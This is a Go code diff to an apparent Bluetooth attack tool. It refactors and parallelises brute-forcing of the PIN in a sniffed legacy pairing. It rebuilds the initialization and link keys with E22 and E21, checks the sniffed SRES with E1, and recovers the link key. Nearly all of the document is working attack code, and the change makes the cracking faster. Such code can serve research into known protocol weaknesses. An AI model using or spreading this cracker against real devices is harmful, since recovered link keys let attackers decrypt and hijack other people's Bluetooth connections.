@@ -1,10 +1,12 @@
 package core
 
 import (
+	"context"
 	"fmt"
 
 	"repro/internal/bt"
 	"repro/internal/btcrypto"
+	"repro/internal/campaign"
 	"repro/internal/controller"
 )
 
@@ -43,6 +45,27 @@ type PINCrackResult struct {
 	Found   bool
 }
 
+// tryPIN re-derives the legacy handshake under one PIN candidate and
+// tests the result against the sniffed SRES: E22 rebuilds the
+// initialization key, unmasking the combination randoms, E21 rebuilds the
+// two key shares, and E1 verifies the challenge-response.
+func (sn *legacySniff) tryPIN(pin []byte) (bt.LinkKey, bool) {
+	kinit := btcrypto.E22(sn.inRand, pin, [6]byte(sn.initiator))
+	var randInit, randResp [16]byte
+	for i := 0; i < 16; i++ {
+		randInit[i] = sn.maskedInit[i] ^ kinit[i]
+		randResp[i] = sn.maskedResp[i] ^ kinit[i]
+	}
+	ka := btcrypto.E21(randInit, [6]byte(sn.initiator))
+	kb := btcrypto.E21(randResp, [6]byte(sn.responder))
+	var key bt.LinkKey
+	for i := range key {
+		key[i] = ka[i] ^ kb[i]
+	}
+	sres, _ := btcrypto.E1(key, sn.challenge, [6]byte(sn.claimant))
+	return key, sres == sn.sres
+}
+
 // CrackPIN brute-forces the PIN of a sniffed legacy pairing using the
 // candidate generator (e.g. FourDigitPINs). It returns the PIN and the
 // recovered link key on success.
@@ -52,22 +75,11 @@ func (s *AirSniffer) CrackPIN(candidates func(yield func(string) bool)) (PINCrac
 		return PINCrackResult{}, err
 	}
 	var res PINCrackResult
+	var buf [16]byte
 	candidates(func(pin string) bool {
 		res.Tried++
-		kinit := btcrypto.E22(sn.inRand, []byte(pin), [6]byte(sn.initiator))
-		var randInit, randResp [16]byte
-		for i := 0; i < 16; i++ {
-			randInit[i] = sn.maskedInit[i] ^ kinit[i]
-			randResp[i] = sn.maskedResp[i] ^ kinit[i]
-		}
-		ka := btcrypto.E21(randInit, [6]byte(sn.initiator))
-		kb := btcrypto.E21(randResp, [6]byte(sn.responder))
-		var key bt.LinkKey
-		for i := range key {
-			key[i] = ka[i] ^ kb[i]
-		}
-		sres, _ := btcrypto.E1(key, sn.challenge, [6]byte(sn.claimant))
-		if sres == sn.sres {
+		key, ok := sn.tryPIN(append(buf[:0], pin...))
+		if ok {
 			res.PIN, res.LinkKey, res.Found = pin, key, true
 			return false
 		}
@@ -77,6 +89,39 @@ func (s *AirSniffer) CrackPIN(candidates func(yield func(string) bool)) (PINCrac
 		return res, fmt.Errorf("core: PIN not in candidate space after %d tries", res.Tried)
 	}
 	return res, nil
+}
+
+// CrackPINParallel is CrackPIN with the candidate space sharded across a
+// campaign.Search worker pool with early cancellation: once a shard hits,
+// no candidate block above the match is started. The result is identical
+// to CrackPIN for any worker count — the lowest-index match wins and
+// Tried reports the serial-equivalent candidate count (the matching
+// candidate's position, or the full space on failure) rather than the
+// scheduling-dependent number of predicate calls. workers <= 0 selects
+// GOMAXPROCS.
+func (s *AirSniffer) CrackPINParallel(candidates func(yield func(string) bool), workers int) (PINCrackResult, error) {
+	sn, err := s.collectLegacyPairing()
+	if err != nil {
+		return PINCrackResult{}, err
+	}
+	var pins []string
+	candidates(func(pin string) bool {
+		pins = append(pins, pin)
+		return true
+	})
+	keys := make([]bt.LinkKey, len(pins))
+	found, _ := campaign.Search(context.Background(), len(pins), campaign.Config{Workers: workers}, func(i int) bool {
+		key, ok := sn.tryPIN([]byte(pins[i]))
+		if ok {
+			keys[i] = key
+		}
+		return ok
+	})
+	if found < 0 {
+		res := PINCrackResult{Tried: len(pins)}
+		return res, fmt.Errorf("core: PIN not in candidate space after %d tries", res.Tried)
+	}
+	return PINCrackResult{PIN: pins[found], LinkKey: keys[found], Tried: found + 1, Found: true}, nil
 }
 
 // collectLegacyPairing walks the capture for the handshake material.
@@ -120,10 +165,16 @@ func (s *AirSniffer) collectLegacyPairing() (*legacySniff, error) {
 }
 
 // FourDigitPINs yields "0000".."9999", the default PIN space of most
-// legacy accessories.
+// legacy accessories. The digits are encoded directly — no format-string
+// parsing in the cracking hot loop.
 func FourDigitPINs(yield func(string) bool) {
+	var d [4]byte
 	for i := 0; i < 10000; i++ {
-		if !yield(fmt.Sprintf("%04d", i)) {
+		d[0] = '0' + byte(i/1000)
+		d[1] = '0' + byte(i/100%10)
+		d[2] = '0' + byte(i/10%10)
+		d[3] = '0' + byte(i%10)
+		if !yield(string(d[:])) {
 			return
 		}
 	}
